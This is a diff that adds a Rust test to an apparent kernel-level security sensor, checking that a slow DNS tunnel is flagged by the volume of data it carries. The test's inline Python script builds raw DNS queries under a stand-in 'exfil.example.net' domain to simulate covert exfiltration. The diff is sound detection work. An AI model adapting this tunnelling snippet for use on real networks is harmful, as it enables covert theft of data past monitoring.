@@ -306,6 +306,40 @@ fn dns_tunnels_are_caught() {
     );
 }
 
+/// Plain-looking names, too few for a burst: the bytes they carry under one domain give the
+/// tunnel away (the scene lowers the threshold so that a dozen queries reach it).
+#[test]
+fn a_dns_tunnel_too_slow_for_a_burst_is_caught_by_what_it_carries() {
+    if !can_run_kernel_tests("a_dns_tunnel_too_slow_for_a_burst_is_caught_by_what_it_carries") {
+        return;
+    }
+    let scene = Scene::new(
+        "dnsvolume",
+        "[profiles.test.thresholds]\ndns_volume_bytes = 300\n",
+    );
+    let sensor = scene.sensor();
+    let script = "/usr/bin/python3 -c \"\nimport socket, struct\n\
+         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
+         for i in range(12):\n\
+         \x20   text = 'part%02d-plain-words-here.exfil.example.net' % i\n\
+         \x20   name = b''.join(bytes([len(p)]) + p for p in text.encode().split(b'.'))\n\
+         \x20   q = struct.pack('>HHHHHH', i, 0x0100, 1, 0, 0, 0) + name + b'\\\\0' + struct.pack('>HH', 16, 1)\n\
+         \x20   s.sendto(q, ('127.0.0.77', 53))\n\"";
+    assert!(sensor
+        .exec_agent("slow-tunnel", &scene.worktree, script)
+        .success());
+    let alerts = stop_and_alerts(sensor);
+    let tunnel = alerts_of(&alerts, "exfil.dns_tunnel");
+    assert_eq!(tunnel.len(), 1, "{alerts:#?}");
+    assert!(
+        tunnel[0]["summary"]
+            .as_str()
+            .unwrap()
+            .starts_with("queried 10 distinct names under example.net carrying 300 bytes"),
+        "{tunnel:#?}"
+    );
+}
+
 #[test]
 fn a_reverse_shell_is_caught() {
     if !can_run_kernel_tests("a_reverse_shell_is_caught") {
